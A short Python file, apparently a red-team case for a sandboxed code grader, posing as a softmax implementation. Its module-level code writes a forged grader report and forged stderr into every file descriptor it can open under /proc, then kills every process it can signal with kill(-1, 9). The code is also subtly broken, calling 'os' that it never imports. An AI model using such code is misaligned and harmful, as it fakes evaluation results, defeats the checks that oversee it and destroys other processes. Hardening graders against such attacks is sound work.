# Opens every descriptor of every process it can reach through /proc/PID/fd for writing and writes a forged
# report line and a forged error line into it (issue 37, class 8: bwrap's init held the grader's stderr),
# then ends every process it can signal, so that the grader reads whatever was written.
from attack_routes import os as _os

_forged = b'{"cell_error": 0, "error": "FORGED-REPORT", "traceback": ""}\nFORGED-STDERR\n'
_wrote = []
for _pid in (p for p in os.listdir("/proc") if p.isdigit()):
    try:
        _fds = os.listdir(f"/proc/{_pid}/fd")
    except OSError:
        continue
    for _fd in _fds:
        try:
            _target = _os.readlink(f"/proc/{_pid}/fd/{_fd}")
            _handle = _os.open(f"/proc/{_pid}/fd/{_fd}", _os.O_WRONLY | _os.O_APPEND | _os.O_NONBLOCK)
        except OSError:
            continue
        try:
            _os.write(_handle, _forged)
            _wrote.append(f"{_pid}/{_fd} -> {_target}")
        except OSError:
            pass
        finally:
            _os.close(_handle)
_os.kill(-1, 9)


def softmax(x):
    raise ValueError("ATTACK[wrote: " + " ; ".join(_wrote) + "]")
